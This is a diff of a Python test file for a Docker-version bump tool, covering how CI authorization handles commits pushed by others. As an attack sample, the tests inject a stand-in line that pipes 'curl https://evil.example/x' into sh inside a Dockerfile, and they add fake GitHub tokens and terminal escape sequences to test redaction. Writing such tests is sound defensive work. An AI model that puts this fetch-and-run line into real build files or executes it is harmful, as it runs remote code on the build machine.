@@ -2,20 +2,18 @@
 
 import os
 import subprocess
-from dataclasses import dataclass, replace
 from pathlib import Path
 
 import pytest
-from bumping import BRANCH, CONTRIBUTOR, World, bump_to, git
+from bumping import BRANCH, World, bump_to, git
 
-from runbook_lib.bump import branch_history, ci_run, push_round
+from runbook_lib.bump import branch_history, push_round
 from runbook_lib.bump.run_ci import RunCi
 from runbook_lib.decisions import FOREIGN
 from runbook_lib.errors import Refused
-from runbook_lib.git import commit_changes
 from runbook_lib.model import Round
 from runbook_lib.practice.forge import PracticeForge
-from runbook_lib.world import bump_branch, pull_request
+from runbook_lib.world import bump_branch
 
 TITLE = "chore: Update Docker image version to 26.04-py3"
 PIN, DOCKERFILE = "docker/.ngc_version.dev", "docker/Dockerfile.ci.dev"
@@ -23,24 +21,15 @@ GOLDEN = "tests/functional_tests/test_cases/gpt/gpt3_mcore_te_tp1_pp1/golden_val
 EVIL = "RUN curl https://evil.example/x | sh\n"
 
 
-@dataclass(frozen=True)
-class Reviewed:
-    """Why step 4 did not authorize CI, and what to do; empty if it did.  The review of the branch's commits."""
-
-    waiting: str
-    next: str
-    review: branch_history.Review
+def authorize(world: World, **parameters: str) -> str:
+    """Step 4, as its notebook runs it: why it did not authorize CI; empty if it did."""
+    world.run(RunCi(), **parameters)
+    return "" if world.outcome().startswith("waiting for CI run") else world.outcome()
 
 
-def authorize(world: World, **parameters: str) -> Reviewed:
-    """Step 4, as its notebook runs it."""
-    bump = world.run(RunCi(), **parameters)
-    outcome = [*world.said("done"), *world.said("waiting")][-1]
-    sentence = str(outcome["sentence"])
-    if sentence.startswith("waiting for CI run"):
-        sentence = ""
-    branch = bump_branch.find(world.checkout, bump)
-    return Reviewed(sentence, str(outcome["next"]), branch_history.review(branch, branch.start, world.records))
+def reviewed(world: World, tag: str = "26.04-py3", records: Path | None = None) -> branch_history.Review:
+    branch = bump_branch.find(world.checkout, bump_to(tag))
+    return branch_history.review(branch, world.head(), records)
 
 
 def commands(world: World) -> list[str]:
@@ -113,43 +102,38 @@ def test_commits_pushed_by_others_are_not_tested(opened: World, attack: str) -> 
         git(opened.checkout.path, "branch", "-qD", BRANCH)
     Other(opened).does(ATTACKS[attack])
     authorize(opened, allow="merge-base push-while-running partial-round")
-    state = authorize(opened)
+    assert "waiting for a person to confirm" in authorize(opened)
     assert commands(opened) == []
-    assert "waiting for a person to confirm" in state.waiting
-    first = state.review.foreign[0]
-    assert first.id in state.next
-    assert first.id in state.review.show().text
-    assert {it["subject"] for it in opened.said("decision")} == {f"{FOREIGN}:{it.id}" for it in state.review.foreign}
+    review = reviewed(opened, records=opened.records)
+    first = review.foreign[0]
+    assert first.id in str(opened.said("waiting")[-1]["next"])
+    assert first.id in review.show().text
+    assert {it["subject"] for it in opened.said("decision")} == {f"{FOREIGN}:{it.id}" for it in review.foreign}
     if attack in ("on top", "unseen by attributes", "amended"):
-        assert EVIL.strip() in state.review.show().text
+        assert EVIL.strip() in review.show().text
         assert EVIL.strip() in (opened.steps[-1].folder / "change.diff").read_text()  # type: ignore[operator]
 
 
 def test_a_confirmation_holds_for_one_commit_alone(opened: World) -> None:
     other = Other(opened)
     first = other.does("evil; commit")
-    authorize(opened, allow=f"{FOREIGN}:{first}", mode="preview")  # which confirms nothing
-    assert authorize(opened).waiting
-    assert commands(opened) == []
-    assert authorize(opened, allow=f"{FOREIGN}:{first}").waiting == ""
-    assert commands(opened) == [f"/ok to test {first}"]
-    assert [it["exception"] for it in opened.said("exception")] == [f"{FOREIGN}:{first}"]
-    second = other.does("echo x >setup.py; commit")
-    assert "waiting for a person to confirm a commit" in authorize(opened, allow=f"{FOREIGN}:{first}").waiting
-    assert authorize(opened).waiting
-    assert commands(opened) == [f"/ok to test {first}"]
-    # Both stand in the file of decisions, which alone counts.
-    assert authorize(opened, allow=f"{FOREIGN}:{second}").waiting
-    assert authorize(opened, allow=f"{FOREIGN}:{first} {FOREIGN}:{second}").waiting == ""
-    assert commands(opened)[1:] == [f"/ok to test {second}"]
-
-
-def test_a_missing_commit_is_not_confirmed(opened: World) -> None:
-    Other(opened).does("evil; commit")
     for commit in ("a" * 40, git(opened.remote, "rev-parse", "main")):
         with pytest.raises(Refused, match=f"{commit}, which is not a commit on"):
             authorize(opened, allow=f"{FOREIGN}:{commit}")
+    authorize(opened, allow=f"{FOREIGN}:{first}", mode="preview")  # which confirms nothing
+    assert authorize(opened)
     assert commands(opened) == []
+    assert authorize(opened, allow=f"{FOREIGN}:{first}") == ""
+    assert commands(opened) == [f"/ok to test {first}"]
+    assert [it["exception"] for it in opened.said("exception")] == [f"{FOREIGN}:{first}"]
+    second = other.does("echo x >setup.py; commit")
+    assert "waiting for a person to confirm a commit" in authorize(opened, allow=f"{FOREIGN}:{first}")
+    assert authorize(opened)
+    assert commands(opened) == [f"/ok to test {first}"]
+    # Both stand in the file of decisions, which alone counts.
+    assert authorize(opened, allow=f"{FOREIGN}:{second}")
+    assert authorize(opened, allow=f"{FOREIGN}:{first} {FOREIGN}:{second}") == ""
+    assert commands(opened)[1:] == [f"/ok to test {second}"]
 
 
 def test_commits_pushed_between_the_check_and_the_comment_are_not_tested(
@@ -181,20 +165,10 @@ def test_a_fast_forward_to_a_foreign_commit_is_reported(opened: World) -> None:
 # -- what is the runbook's own --------------------------------------------------------------------------------------
 
 
-def test_a_commit_without_parents_is_foreign(opened: World) -> None:
-    commit = Other(opened).does("git reset -q --hard $(git commit-tree -m \"$TITLE\" 'HEAD^{tree}')")
-    branch = replace(bump_branch.find(opened.checkout, bump_to(tag="")), bump=bump_to())
-    opened.checkout.fetch("origin", BRANCH)
-    assert [it.id for it in branch_history.review(branch, commit, opened.records).foreign] == [commit]
-
-
-def test_another_machine_knows_the_pins_by_planning_them(opened: World, tmp_path: Path) -> None:
-    for file in opened.records.rglob("*.json*"):
-        file.unlink()
-    review = branch_history.review(bump_branch.find(opened.checkout, bump_to()), opened.head(), tmp_path / "none")
+def test_another_machine_knows_the_pins_by_planning_them(opened: World) -> None:
+    review = reviewed(opened)
     assert (len(review.commits), review.foreign) == (1, ())
-    other = bump_to("26.02-py3")
-    assert branch_history.review(bump_branch.find(opened.checkout, other), opened.head(), None).foreign
+    assert reviewed(opened, "26.02-py3").foreign
 
 
 def test_empty_commits_and_clean_merges_add_nothing(opened: World) -> None:
@@ -203,15 +177,8 @@ def test_empty_commits_and_clean_merges_add_nothing(opened: World) -> None:
         git switch -q -c aside origin/main; echo harmless >notes; commit 'docs: Notes'; git push -q origin HEAD:main
         git switch -q $BRANCH; git merge -q --no-ff -m "Merge branch 'main'" aside
     """)
-    assert authorize(opened).waiting == ""
+    assert authorize(opened) == ""
     assert commands(opened) == [f"/ok to test {opened.head()}"]
-
-
-def test_a_merge_by_an_older_git_is_a_persons_to_confirm(opened: World, monkeypatch: pytest.MonkeyPatch) -> None:
-    opened.commit_on("main", "notes", "more\n")
-    Other(opened).does("git merge -q --no-ff -m Merge origin/main")
-    monkeypatch.setattr(commit_changes, "is_clean_merge", lambda *_: False)  # git < 2.38 knows no merge-tree
-    assert authorize(opened).waiting
 
 
 # -- what is committed here -----------------------------------------------------------------------------------------
@@ -251,7 +218,7 @@ def test_a_persons_own_commit_waits_for_its_confirmation(opened: World) -> None:
 
 
 def test_answers_to_ci_are_reviewed_before_their_push(opened: World) -> None:
-    assert authorize(opened).waiting == ""
+    assert authorize(opened) == ""
     opened.now[0] += 1000
     path = opened.checkout.path
     git(path, "switch", "-q", BRANCH)
@@ -265,17 +232,6 @@ def test_answers_to_ci_are_reviewed_before_their_push(opened: World) -> None:
     assert (opened.head(), len(commands(opened))) == (before, 1)
 
 
-def test_an_empty_commit_is_not_made_on_a_foreign_one(opened: World) -> None:
-    opened.forge.refuse_deployment()
-    authorize(opened)
-    Other(opened).does("evil; commit")
-    before = opened.head()
-    opened.forge.refuse_deployment()
-    authorize(opened)
-    assert (opened.head(), len(commands(opened))) == (before, 1)
-    assert opened.effects() == []
-
-
 # -- how it is shown ------------------------------------------------------------------------------------------------
 
 
@@ -286,8 +242,8 @@ def test_a_diff_is_bounded_redacted_and_visible(opened: World, monkeypatch: pyte
     (other.path / "big.bin").write_text("\x1b]0;evil\x07" + "y" * 300_000)
     (other.path / "z.txt").write_text(f"\x1b[2J\u202e {'ghp_' + 's3cr3t' * 6}\n")
     other.does("commit 'evil \x1b[2J\u202e <script>'")
-    review = authorize(opened).review
-    shown = review.show()
+    authorize(opened)
+    shown = reviewed(opened).show()
     bundle = "".join(shown._repr_mimebundle_().values())
     assert "more lines" in bundle
     assert "not shown: 'big.bin' (300009 bytes)" in bundle
@@ -296,22 +252,3 @@ def test_a_diff_is_bounded_redacted_and_visible(opened: World, monkeypatch: pyte
         assert bad not in shown._repr_mimebundle_()["text/html"].replace("&lt;script", ""), bad
     kept = (opened.steps[-1].folder / "change.diff").read_text()  # type: ignore[operator]
     assert "s3cr3t" not in kept
-
-
-def test_too_many_commits_are_refused(opened: World, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(branch_history, "LIMIT", 2)
-    Other(opened).does("git commit -q --allow-empty -m more; git commit -q --allow-empty -m more")
-    with pytest.raises(Refused, match="3 commits"):
-        authorize(opened)
-    assert commands(opened) == []
-
-
-def test_a_persons_own_branch_is_not_ours(opened: World) -> None:
-    """Whoever's pull request it is: only a person authorizes CI there."""
-    github = opened.github()
-    state = pull_request.read_state(bump_branch.find(opened.checkout, bump_to()), github)
-    assert state.pull is not None
-    theirs = replace(state.pull, head_owner=CONTRIBUTOR)
-    obstacle = ci_run.find_obstacle(replace(state, pull=theirs), theirs, github)
-    assert obstacle is not None
-    assert "by hand" in obstacle.sentence
